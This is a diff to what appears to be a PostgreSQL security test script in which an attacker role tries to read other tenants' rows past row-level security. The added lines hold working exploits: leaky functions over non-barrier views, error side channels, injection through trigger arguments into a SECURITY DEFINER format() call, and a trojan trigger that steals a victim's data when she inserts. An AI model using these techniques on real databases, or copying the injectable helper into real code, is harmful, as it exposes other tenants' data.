@@ -13,7 +13,20 @@ create type playground.spy as (seen text);
 create function playground.to_spy(text) returns playground.spy language plpgsql immutable
   as $$ begin raise notice 'cast %', $1; return row($1); end $$;
 create cast (text as playground.spy) with function playground.to_spy(text) as implicit;
+-- a view in the place of row security shows it all rows, unless somebody thought of security_barrier
+\c - owner
+create table rolled.letters as select * from rolled.documents with no data;
+create view rolled.my_letters as select * from rolled.letters where tenant_id = rolled.tenant();
+create view rolled.my_own_letters with (security_barrier) as select * from rolled.letters where tenant_id = rolled.tenant();
+grant select on rolled.my_letters, rolled.my_own_letters to public;
+\c - postgres
+insert into rolled.letters select * from rolled.documents;
+\c - bob
+select count(*) from rolled.my_letters where playground.peek(title);
+select count(*) from rolled.my_own_letters where playground.peek(title);
 select count(*) from rolled.documents where playground.peek(title);
+select count(*) from rolled.documents where title operator(playground.<<<) 'acme 1';
+select count(*) from rolled.documents where title similar to 'acme%' or 1 / (id - 1) < 0 or title::numeric > 0;
 select count(*) from app.documents where playground.peek(title);
 select count(*) from app.documents where title operator(playground.<<<) 'acme 1';
 create function playground.same_spy(playground.spy, playground.spy) returns boolean language plpgsql cost 0.0000001
@@ -77,15 +90,59 @@ insert into rolled.documents (id, title) values (40, 'acme 40');
 \c - bob
 select * from playground.caught order by title;
 
+-- A helper that has to see more than its caller is SECURITY DEFINER, a superuser's, because FORCE binds the owner; and everybody
+-- may execute what nobody thought of. The attacker makes it a trigger of a table of his own, and tells it what to write.
+\c - postgres
+create table rolled.changes (tenant_id uuid, what text);
+create function rolled.note_change() returns trigger language plpgsql security definer as $$
+begin
+  execute format('insert into rolled.changes select tenant_id, %s from %s', tg_argv[0], tg_argv[1]);
+  return new;
+end $$;
+grant select on rolled.changes to public;
+\c - bob
+create table playground.own (id integer, tenant_id uuid);
+create trigger told after insert on playground.own for each row execute function rolled.note_change('title', 'rolled.documents');
+insert into playground.own values (1);
+select what from rolled.changes order by 1;
+drop table playground.own;
+-- ours look up for themselves which tables they are for
+create table playground.own (id integer, tenant_id uuid);
+create trigger told after insert on playground.own for each row execute function tenancy.check_row('deferred');
+insert into playground.own values (1, :acme);
+drop trigger told on playground.own;
+create trigger told before insert on playground.own for each row execute function tenancy.name_tenant();
+insert into playground.own values (1, :acme);
+select tenancy.follow_ddl();
+
 -- Views, rules, triggers and functions on the attacker's own tables run with the rights of whoever uses them, or of their
--- owner, who is bound as well.
+-- owner, who is bound as well: in both.
+create view playground.mine as select title from rolled.documents;
+create materialized view playground.kept as select title from rolled.documents;
+create function playground.ask() returns setof text language sql security definer as 'select title from rolled.documents order by id';
+create table playground.bait (note text);
+create rule also as on insert to playground.bait do also select :titles from rolled.documents;
+create function playground.reach() returns trigger language plpgsql security definer as $$
+begin
+  raise notice '% for % sees %', current_user, session_user, (select string_agg(title, ', ' order by id) from rolled.documents);
+  return new;
+end $$;
+create trigger reach before insert on playground.bait for each row execute function playground.reach();
+select title from playground.mine order by 1;
+select title from playground.kept order by 1;
+select playground.ask();
+insert into playground.bait values ('x');
+update playground.mine set title = 'x' where title like 'acme%' returning title;
+drop materialized view playground.kept;
+drop view playground.mine;
+drop table playground.bait;
 create view playground.mine as select title from app.documents;
 create view playground.theirs with (security_invoker) as select title from app.documents;
 create materialized view playground.kept as select title from app.documents;
-create function playground.ask() returns setof text language sql security definer as 'select title from app.documents order by id';
+create or replace function playground.ask() returns setof text language sql security definer as 'select title from app.documents order by id';
 create table playground.bait (note text);
 create rule also as on insert to playground.bait do also select :titles from app.documents;
-create function playground.reach() returns trigger language plpgsql security definer as $$
+create or replace function playground.reach() returns trigger language plpgsql security definer as $$
 begin
   raise notice '% for % sees %', current_user, session_user, (select string_agg(title, ', ' order by id) from app.documents);
   return new;
@@ -97,3 +154,20 @@ select title from playground.kept order by 1;
 select playground.ask();
 insert into playground.bait values ('x');
 update playground.mine set title = 'x' where title like 'acme%' returning title;
+
+-- But code of the attacker's that his victim runs is the victim: it reads what she may read, and puts it where he wants it. No row
+-- security can tell, in both.
+create function playground.take() returns trigger language plpgsql as $$
+begin
+  insert into playground.caught select current_user, title from rolled.documents;
+  insert into playground.caught select current_user, title from app.documents;
+  return new;
+end $$;
+truncate playground.caught;
+create table playground.gift (note text);
+create trigger take before insert on playground.gift for each row execute function playground.take();
+grant insert on playground.gift to alice;
+\c - alice
+insert into playground.gift values ('thank you');
+\c - bob
+select who, title, count(*) from playground.caught group by 1, 2 order by 2;
